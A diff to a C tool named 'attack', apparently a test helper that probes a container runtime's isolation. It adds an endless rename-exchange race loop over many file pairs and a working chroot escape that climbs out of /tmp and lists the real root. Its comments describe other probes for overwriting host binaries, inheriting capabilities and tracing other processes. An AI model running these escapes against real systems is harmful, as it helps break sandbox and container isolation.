@@ -5,10 +5,12 @@
 //
 //   attack fds                  every open descriptor, one per line: "N target"
 //   attack swap A B             exchanges the names A and B until it is killed
+//   attack swaps DIRECTORY N    the same with N pairs in DIRECTORY: a0 and b0, a1 and b1, ...
 //   attack overwrite            waits for a process that is no program of the container's, and tries to
 //                               get a writable descriptor of its program, while it lives and afterwards
 //   attack inherit COMMAND...   executes it with CAP_CHOWN and CAP_KILL inheritable and ambient
 //   attack touch PID            tries to trace PID, to read its memory, descriptors, files
+//   attack climb                leaves its root by the way of chroot(2), and lists what it finds at the top
 //   attack keyring              describes its session keyring
 //   attack watch SECONDS        the same with every process that appears; prints what succeeded
 
@@ -54,6 +56,19 @@ static int swap(const char *one, const char *other) {
     if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0 && errno != ENOENT)
       return perror("renameat2"), 1;
     nap(10);
+  }
+}
+
+static int swap_pairs(const char *directory, int pairs) {
+  prctl(PR_SET_PDEATHSIG, SIGKILL);
+  if (chdir(directory) < 0)
+    return perror(directory), 1;
+  for (int i = 0;; i = (i + 1) % pairs) {
+    char one[16], other[16];
+    snprintf(one, sizeof one, "a%d", i);
+    snprintf(other, sizeof other, "b%d", i);
+    if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0)
+      return perror("renameat2"), 1;
   }
 }
 
@@ -200,18 +215,35 @@ static int describe_keyring(void) {
   return puts(words), 0;
 }
 
+static int climb(void) {
+  int outside = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+  if (outside < 0 || chroot("/tmp") < 0 || fchdir(outside) < 0)
+    return perror("chroot"), 1;
+  for (int i = 0; i < 64; i++)
+    if (chdir("..") < 0)
+      return perror(".."), 1;
+  DIR *top = opendir(".");
+  for (struct dirent *entry; top && (entry = readdir(top));)
+    puts(entry->d_name);
+  return top ? closedir(top) : 1;
+}
+
 int main(int argc, char **argv) {
   const char *verb = argc > 1 ? argv[1] : "";
   if (!strcmp(verb, "fds"))
     return show_descriptors();
   if (!strcmp(verb, "swap") && argc == 4)
     return swap(argv[2], argv[3]);
+  if (!strcmp(verb, "swaps") && argc == 4)
+    return swap_pairs(argv[2], atoi(argv[3]));
   if (!strcmp(verb, "overwrite"))
     return overwrite();
   if (!strcmp(verb, "inherit") && argc > 2)
     return inherit(argv + 2);
   if (!strcmp(verb, "touch") && argc == 3)
     return touch(argv[2]), 0;
+  if (!strcmp(verb, "climb"))
+    return climb();
   if (!strcmp(verb, "keyring"))
     return describe_keyring();
   if (!strcmp(verb, "watch") && argc == 3)
